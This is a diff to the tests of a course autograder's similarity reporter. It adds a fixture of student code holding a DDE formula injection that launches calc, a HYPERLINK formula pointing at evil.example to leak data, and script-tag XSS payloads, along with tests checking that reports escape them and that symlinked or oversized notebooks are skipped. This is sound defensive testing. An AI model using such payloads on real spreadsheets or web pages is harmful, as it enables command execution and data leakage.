@@ -17,9 +17,9 @@ from autograder.course import LABS_DIR, get_lab
 from autograder.notebook import read_notebook, solution_cells
 from autograder.samples import _swap_definitions, make_submission, variants
 from autograder.similarity.extract import lab_units
-from autograder.similarity.report import write_csv, write_html
 from autograder.similarity.fingerprint import fingerprints
 from autograder.similarity.normalise import tokens
+from autograder.similarity.report import write_csv, write_html
 from autograder.similarity.run import MAX_NOTEBOOK_BYTES, compare_class, release_templates
 
 LABS = ["lab1_knn", "lab2_linear"]
@@ -163,3 +163,95 @@ def test_planted_copies_rank_above_every_independent_pair(planted_class):
     assert gaps, f"no unit of {lab_name} has two independent versions to compare"
     report = ", ".join(f"{u} {lo:.2f}>{hi:.2f}" for u, (lo, hi) in gaps.items())
     print(f"\n{lab_name} planted-min > independent-max: {report}; given whole: {given}")
+
+
+# -- hostile text and files ------------------------------------------------------------------
+def _lab1_class(root: Path, cells: dict[str, str | None]) -> Path:
+    """A Lab 1 class: each student's ``predict_labels`` cell holds the given source (``None``:
+    the solution notebook untouched)."""
+    for student, source in cells.items():
+        nb = make_submission("lab1_knn", "knn.ipynb", "solution", LABS_DIR)
+        if source is not None:
+            solution_cells(nb)["predict_labels"].source = source
+        (root / student / "lab1_knn").mkdir(parents=True)
+        nbformat.write(nb, root / student / "lab1_knn" / "knn.ipynb")
+    return root
+
+
+HOSTILE = '''=cmd|' /C calc'!A0
+def =HYPERLINK("http://evil.example/?leak", "click")(dists):
+    """</pre><script>alert(1)</script>"""
+    y_pred = np.zeros(dists.shape[0], dtype=np.int64)
+    for i in range(dists.shape[0]):
+        y_pred[i] = np.argmin(dists[i]) + 0 * "</pre><script>alert(2)</script>"
+    return y_pred
+'''
+
+
+def test_student_code_in_the_report_is_inert(tmp_path):
+    submitted = _lab1_class(tmp_path / "submitted", {"ann": HOSTILE, "bob": HOSTILE,
+                                                     "cat": None})
+    found = compare_class(submitted, "lab1_knn", tmp_path / "out", workers=1)
+    pair = next(p for p in found.pairs if p.unit == "predict_labels")
+    assert {pair.a, pair.b} == {"ann", "bob"} and pair.score == 1.0
+    write_csv(found, tmp_path / "similarity.csv")
+    write_html(found, tmp_path / "similarity.html")
+    with (tmp_path / "similarity.csv").open(newline="") as f:
+        rows = list(csv.reader(f))
+    header = rows[0]
+    mine = [r for r in rows[1:] if r[header.index("function")] == "predict_labels"
+            and {r[header.index("student_a")], r[header.index("student_b")]} == {"ann", "bob"}]
+    excerpt = mine[0][header.index("excerpt_a")]
+    assert excerpt.startswith("'=cmd|"), excerpt
+    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")]
+    page = (tmp_path / "similarity.html").read_text()
+    assert "<script" not in page.lower() and "&lt;script&gt;alert(1)" in page
+    assert "=HYPERLINK(&quot;http://evil.example" in page  # shown, escaped, not a link
+    assert "<a href='http" not in page
+
+
+def test_symlinked_and_oversized_notebooks_are_skipped_with_a_reason(tmp_path):
+    submitted = _lab1_class(tmp_path / "submitted", {"ann": None, "big": None, "lnk": None,
+                                                     "dir": None})
+    secret = tmp_path / "secret.ipynb"
+    secret.write_text((submitted / "ann" / "lab1_knn" / "knn.ipynb").read_text()
+                      .replace("np.argmax(votes)", "np.argmax(votes)  # SECRET"))
+    (submitted / "lnk" / "lab1_knn" / "knn.ipynb").unlink()
+    os.symlink(secret, submitted / "lnk" / "lab1_knn" / "knn.ipynb")
+    with (submitted / "big" / "lab1_knn" / "knn.ipynb").open("r+b") as f:
+        f.truncate(MAX_NOTEBOOK_BYTES + 1)  # sparse: no disk used
+    folder = submitted / "dir" / "lab1_knn"
+    for path in folder.iterdir():
+        path.unlink()
+    folder.rmdir()
+    os.symlink(tmp_path, folder)
+    found = compare_class(submitted, "lab1_knn", tmp_path / "out", workers=1)
+    assert set(found.skipped) == {"big", "lnk", "dir"}
+    assert "symbolic link" in found.skipped["lnk"] and "symbolic link" in found.skipped["dir"]
+    assert "MB" in found.skipped["big"]
+    assert not any("SECRET" in text for units in found.sources.values()
+                   for text in units.values())
+
+
+def test_cli_writes_the_report_resumes_from_its_cache_and_refuses_bad_input(tmp_path, capsys):
+    from autograder.cli import main
+
+    submitted = _lab1_class(tmp_path / "submitted", {"ann": None, "bob": None})
+    out = tmp_path / "out"
+    assert main(["similar", str(submitted), "--lab", "lab1_knn", "--out", str(out)]) == 0
+    assert (out / "similarity.html").is_file()
+    with (out / "similarity.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert {r["function"] for r in rows} >= {"compute_distances_two_loops", "predict_labels"}
+    assert all(float(r["score"]) == 1.0 for r in rows)  # the same solution twice
+    cached = {p: p.stat().st_mtime_ns for p in (out / "similarity-cache").iterdir()}
+    assert len(cached) == 2
+    assert main(["similar", str(submitted), "--lab", "lab1_knn", "--out", str(out)]) == 0
+    assert {p: p.stat().st_mtime_ns for p in (out / "similarity-cache").iterdir()} == cached
+    capsys.readouterr()
+    assert main(["similar", str(tmp_path / "nowhere"), "--lab", "lab1_knn",
+                 "--out", str(out)]) == 2
+    assert main(["similar", str(submitted), "--lab", "lab9_none", "--out", str(out)]) == 2
+    assert main(["similar", str(submitted), "--lab", "lab1_knn", "--min-score", "3"]) == 2
+    errors = capsys.readouterr().err.strip().splitlines()
+    assert len(errors) == 3 and all(e.startswith("error: ") for e in errors)
